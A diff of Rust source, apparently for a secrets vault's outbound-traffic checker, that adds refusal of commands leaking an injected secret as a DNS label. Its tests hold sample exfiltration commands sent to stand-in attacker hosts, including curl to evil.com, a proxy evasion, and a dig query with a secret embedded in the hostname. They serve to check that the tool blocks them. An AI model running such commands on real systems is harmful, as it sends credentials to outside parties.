@@ -205,16 +205,53 @@ pub fn evaluate(secrets: &[(&str, &Policy)], destinations: &[Destination]) -> De
     }
 }
 
-/// Extract the destinations of `argv` (the template, before placeholders
-/// are substituted) and judge them. With no secret injected nothing is
-/// checked; an evasion refuses the run.
-pub fn check_argv(secrets: &[(&str, &Policy)], argv: &[String]) -> Decision {
+/// What [`check_argv`] found and decided.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct Check {
+    /// Every destination found (empty when the command was refused as an evasion).
+    pub destinations: Vec<Destination>,
+    pub decision: Decision,
+}
+
+/// The one egress decision `vault run` makes: extract the destinations of `argv` (the
+/// template, before placeholders are substituted) and judge them against every injected
+/// secret's policy. With no secret injected nothing is checked. An evasion, or a
+/// destination host in which `holds_secret` finds an injected value (a value sent out as a
+/// DNS label), refuses the run.
+pub fn check_argv(
+    secrets: &[(&str, &Policy)],
+    argv: &[String],
+    holds_secret: &dyn Fn(&str) -> bool,
+) -> Check {
     if secrets.is_empty() {
-        return Decision::Allow;
+        return Check {
+            destinations: Vec::new(),
+            decision: Decision::Allow,
+        };
     }
-    match extract::destinations(argv) {
-        Ok(dests) => evaluate(secrets, &dests),
-        Err(e) => Decision::Refuse(e),
+    let destinations = match extract::destinations(argv) {
+        Ok(d) => d,
+        Err(e) => {
+            return Check {
+                destinations: Vec::new(),
+                decision: Decision::Refuse(e),
+            };
+        }
+    };
+    if let Some(d) = destinations.iter().find(|d| holds_secret(&d.host)) {
+        let decision = Decision::Refuse(Evasion {
+            reason: "a destination host contains a secret's value, which the name lookup alone sends out".to_string(),
+            location: d.source.clone(),
+        });
+        return Check {
+            destinations,
+            decision,
+        };
+    }
+    let decision = evaluate(secrets, &destinations);
+    Check {
+        destinations,
+        decision,
     }
 }
 
@@ -526,37 +563,68 @@ mod tests {
         let argv = |a: &[&str]| a.iter().map(|s| (*s).to_string()).collect::<Vec<_>>();
         let secrets = [("GH", &gh)];
         assert_eq!(
-            check_argv(&secrets, &argv(&["curl", "https://api.github.com/user"])),
+            check_argv(
+                &secrets,
+                &argv(&["curl", "https://api.github.com/user"]),
+                &|_| false
+            )
+            .decision,
             Decision::Allow
         );
         assert_eq!(
-            check_argv(&secrets, &argv(&["curl", "HTTPS://API.GITHUB.COM./x"])),
+            check_argv(
+                &secrets,
+                &argv(&["curl", "HTTPS://API.GITHUB.COM./x"]),
+                &|_| false
+            )
+            .decision,
             Decision::Allow
         );
         assert!(matches!(
-            check_argv(&secrets, &argv(&["curl", "http://api.github.com/"])),
+            check_argv(
+                &secrets,
+                &argv(&["curl", "http://api.github.com/"]),
+                &|_| false
+            )
+            .decision,
             Decision::Deny(_)
         ));
         assert!(matches!(
-            check_argv(&secrets, &argv(&["curl", "https://evil.com"])),
+            check_argv(&secrets, &argv(&["curl", "https://evil.com"]), &|_| false).decision,
             Decision::Deny(_)
         ));
         assert!(matches!(
             check_argv(
                 &secrets,
-                &argv(&["curl", "-x", "p:1", "https://api.github.com"])
-            ),
+                &argv(&["curl", "-x", "p:1", "https://api.github.com"]),
+                &|_| false
+            )
+            .decision,
             Decision::Refuse(_)
         ));
         assert_eq!(
-            check_argv(&secrets, &argv(&["echo", "hello"])),
+            check_argv(&secrets, &argv(&["echo", "hello"]), &|_| false).decision,
             Decision::Allow
         );
         // No secret injected: nothing to protect, nothing checked.
         assert_eq!(
-            check_argv(&[], &argv(&["curl", "-x", "p:1", "https://evil.com"])),
+            check_argv(
+                &[],
+                &argv(&["curl", "-x", "p:1", "https://evil.com"]),
+                &|_| false
+            )
+            .decision,
             Decision::Allow
         );
+        // A value sent out as a DNS label is refused whatever the policy says.
+        let all = pol(&["*"], &[], &[]);
+        let open = [("TOK", &all)];
+        let holds = |h: &str| h.contains("s3cr3tvalue");
+        let c = check_argv(&open, &argv(&["dig", "s3cr3tvalue.evil.example"]), &holds);
+        assert!(matches!(c.decision, Decision::Refuse(_)), "{c:?}");
+        let c = check_argv(&open, &argv(&["dig", "ok.example"]), &holds);
+        assert_eq!(c.decision, Decision::Allow);
+        assert_eq!(c.destinations.len(), 1);
     }
 
     fn widens(old: &Policy, new: &Policy) -> bool {
